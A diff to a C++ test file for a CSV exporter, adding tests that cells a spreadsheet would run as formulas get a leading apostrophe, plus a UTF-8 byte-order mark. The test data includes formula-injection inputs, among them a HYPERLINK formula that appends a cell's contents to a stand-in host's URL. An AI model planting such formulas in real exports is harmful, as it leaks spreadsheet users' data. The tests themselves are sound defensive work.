@@ -1,7 +1,8 @@
 // Comma-separated files as another program reads them: Python's csv module gets back
-// every field as it was (commas, quotes, line breaks, leading blanks, non-ASCII), lines
-// end in CR LF without a byte-order mark, and a file is replaced only when the new one
-// was written whole.
+// every field as it was (commas, quotes, line breaks, leading blanks, non-ASCII), a field
+// a spreadsheet would run as a formula carries a leading apostrophe, lines end in CR LF
+// after a UTF-8 byte-order mark, and a file is replaced only when the new one was
+// written whole.
 
 #include "ReadBack.h"
 #include "reports/CsvExport.h"
@@ -46,6 +47,22 @@ const std::vector<QStringList>& Awkward()
     return lines;
 }
 
+// Fields a spreadsheet would run, and what every reader gets back.
+const std::vector<std::pair<QStringList, QStringList>>& Formulas()
+{
+    static const std::vector<std::pair<QStringList, QStringList>> lines = {
+        {{QStringLiteral("=1+2"), QStringLiteral("+1"), QStringLiteral("-1"), QStringLiteral("@A1"),
+          QStringLiteral("\t=2"), QStringLiteral("\r=3")},
+         {QStringLiteral("'=1+2"), QStringLiteral("+1"), QStringLiteral("-1"), QStringLiteral("'@A1"),
+          QStringLiteral("'\t=2"), QStringLiteral("'\r=3")}},
+        {{QStringLiteral("=HYPERLINK(\"http://x.example/\",\"a, b\")"), QStringLiteral("-4.25"),
+          QString::fromUtf8("M\xC3\xBCller")},
+         {QStringLiteral("'=HYPERLINK(\"http://x.example/\",\"a, b\")"), QStringLiteral("-4.25"),
+          QString::fromUtf8("M\xC3\xBCller")}},
+    };
+    return lines;
+}
+
 TEST(CsvFieldTest, QuotesOnlyWhatNeedsQuoting)
 {
     EXPECT_EQ(csv::Field(QStringLiteral("plain text")), QStringLiteral("plain text"));
@@ -57,6 +74,29 @@ TEST(CsvFieldTest, QuotesOnlyWhatNeedsQuoting)
     EXPECT_EQ(csv::Field(QStringLiteral("a\rb")), QStringLiteral("\"a\rb\""));
     EXPECT_EQ(csv::Line({QStringLiteral("a"), QStringLiteral("b,c"), QString()}), QStringLiteral("a,\"b,c\",\r\n"));
     EXPECT_EQ(csv::Line({}), QStringLiteral("\r\n"));
+}
+
+// What a spreadsheet would run gets an apostrophe; numbers, signed ones too, stay numbers.
+TEST(CsvFieldTest, FormulaStartsGetAnApostropheNumbersDoNot)
+{
+    const std::pair<const char*, const char*> cases[] = {
+        {"=1+2", "'=1+2"},
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
+        {"+1 555 0100", "'+1 555 0100"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
+        {"\tcmd", "'\tcmd"},
+        {"\rcmd", "\"'\rcmd\""},
+        {"-12", "-12"},
+        {"+3.5", "+3.5"},
+        {"-.5", "-.5"},
+        {"-1.2.3", "'-1.2.3"},
+        {"-", "'-"},
+        {"a=b", "a=b"},
+        {" =1", " =1"},
+    };
+    for (const auto& [value, written] : cases)
+        EXPECT_EQ(csv::Field(QString::fromUtf8(value)), QString::fromUtf8(written)) << value;
 }
 
 TEST(CsvFileTest, PythonReadsBackEveryFieldAsItWas)
@@ -77,8 +117,8 @@ TEST(CsvFileTest, PythonReadsBackEveryFieldAsItWas)
     EXPECT_EQ(ReadCsvWithPython(path), Awkward());
 
     const QByteArray bytes = ReadAll(path);
-    EXPECT_FALSE(bytes.startsWith("\xEF\xBB\xBF")) << "no byte-order mark";
-    EXPECT_TRUE(bytes.startsWith("Consent List\r\nLastName,FirstName,Notes\r\n"));
+    EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBF" "Consent List\r\nLastName,FirstName,Notes\r\n"))
+        << "byte-order mark, then the lines";
     EXPECT_TRUE(bytes.endsWith(" ,\",\",trailing blank \r\n"));
     EXPECT_TRUE(bytes.contains("M\xC3\xBCller")) << "UTF-8";
     // Every line break outside a quoted field is CR LF.
@@ -95,6 +135,20 @@ TEST(CsvFileTest, PythonReadsBackEveryFieldAsItWas)
     EXPECT_EQ(outsideLf, 6);
 }
 
+TEST(CsvFileTest, PythonReadsFormulaFieldsWithTheirApostrophe)
+{
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("formulas.csv"));
+    std::vector<QStringList> written, expected;
+    for (const auto& [fields, readBack] : Formulas()) {
+        written.push_back(fields);
+        expected.push_back(readBack);
+    }
+    ASSERT_EQ(WriteCsvFile(path, static_cast<int>(written.size()), [&](int i) { return written[size_t(i)]; }),
+              CsvResult::Saved);
+    EXPECT_EQ(ReadCsvWithPython(path), expected);
+}
+
 TEST(CsvFileTest, ReplacingAFileAndCancelling)
 {
     QTemporaryDir dir;
@@ -109,7 +163,7 @@ TEST(CsvFileTest, ReplacingAFileAndCancelling)
 
     ui.SaveFileNext(path);
     EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), {{QStringLiteral("new")}}), CsvResult::Saved);
-    EXPECT_EQ(ReadAll(path), QByteArray("new\r\n")) << "the old file is replaced, not appended to";
+    EXPECT_EQ(ReadAll(path), QByteArray("\xEF\xBB\xBF" "new\r\n")) << "the old file is replaced, not appended to";
     EXPECT_TRUE(ui.Texts().isEmpty());
 }
 
